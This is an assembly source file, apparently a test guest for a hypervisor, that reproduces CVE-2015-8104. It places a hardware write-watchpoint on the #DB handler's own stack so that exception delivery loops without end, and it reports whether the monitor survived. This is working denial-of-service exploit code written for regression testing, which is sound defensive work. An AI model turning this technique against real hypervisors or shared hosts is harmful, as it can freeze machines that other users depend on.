; STORMDB: watches the stack that #DB's delivery writes: each causes the next (CVE-2015-8104).
; Part in the monitor: a hostile guest; if #DB did not exit, no timer could take the processor back.

%define GUEST_NAME "STORMDB"
%include "lib/guest.inc"

TSS64		equ 0x20
ENOUGH		equ 1000

main:
	SAY "STORMDB: A WATCH ON #DB'S OWN STACK: ENDLESS DELIVERY", NL
	; A stack of its own for #DB: each delivery starts at the same place, unlike nested ones
	; on a common stack.
	mov qword [tss + 36], debug_stack_top
	mov word [tss + 102], 104
	mov eax, tss
	mov [storm_gdt + TSS64 + 2], ax
	shr eax, 16
	mov [storm_gdt + TSS64 + 4], al
	mov [storm_gdt + TSS64 + 7], ah
	lgdt [storm_gdt_pointer]
	mov eax, TSS64
	ltr ax
	mov byte [idt + 1 * 16 + 4], 1
	mov qword [trap_handlers + 1 * 8], debug

	mov eax, debug_stack_top - 8	; where SS is stored first
	mov dr0, rax
	xor eax, eax
	mov dr6, rax
	mov eax, 1 << 1 | 1 << 16 | 3 << 18	; global enable, on writes, four bytes
	mov dr7, rax
	mov dword [debug_stack_top - 8], 0	; the first one
	nop
	SAY "STORMDB: SURVIVED, HANDLER RUNS "
	mov eax, [runs]
	call putdec
	SAY NL
	ret

debug:
	inc dword [runs]
	cmp dword [runs], ENOUGH
	jb .end
	xor eax, eax
	mov dr7, rax
.end:
	ret

section .data
align 8, db 0
storm_gdt:
	dq 0
	dq 0x00AF9A000000FFFF
	dq 0x00CF92000000FFFF
	dq 0x00CF9A000000FFFF
	dq 0x0000890000000067, 0
storm_gdt_end:
storm_gdt_pointer:
	dw storm_gdt_end - storm_gdt - 1
	dq storm_gdt

section .bss
alignb 16
tss		resb 104
runs		resd 1
alignb 16
		resb 4096
debug_stack_top:
section .text

GUEST_END
